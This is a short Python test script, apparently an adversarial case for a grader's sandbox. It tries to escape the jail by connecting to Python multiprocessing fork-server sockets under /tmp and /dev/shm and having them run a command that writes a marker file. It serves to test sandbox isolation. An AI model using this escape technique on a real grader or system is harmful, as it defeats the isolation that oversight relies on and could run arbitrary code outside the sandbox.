"""Asks a multiprocessing fork server (ours, or any other on the machine) for a
process outside the jail; that process would leave a marker file behind.

Python 3.11's fork server listens on a Unix socket under the temp folder and
forks whatever a client sends it, so the worker must not see those sockets.
"""
# component: softmax
# expect: full
import glob
import os
import multiprocessing
from multiprocessing import forkserver

MARKER = "/tmp/grader-adversary-escape.marker"
multiprocessing.current_process()._config["daemon"] = False   # allow children
addresses = glob.glob("/tmp/pymp-*/listener-*") + glob.glob("/dev/shm/pymp-*/listener-*")
if forkserver._forkserver._forkserver_address:                # the server we came from
    addresses.append(forkserver._forkserver._forkserver_address)
reached = 0
for address in addresses:
    try:
        server = forkserver._forkserver
        server.ensure_running = lambda: None
        server._forkserver_address = address
        server._forkserver_alive_fd = os.pipe()[0]
        multiprocessing.get_context("forkserver").Process(
            target=os.system, args=(f"id > {MARKER}",)).start()
        reached += 1
    except Exception:  # noqa: BLE001 - try the next one
        pass
print(f"reached {reached} of {len(addresses)} fork server(s)")
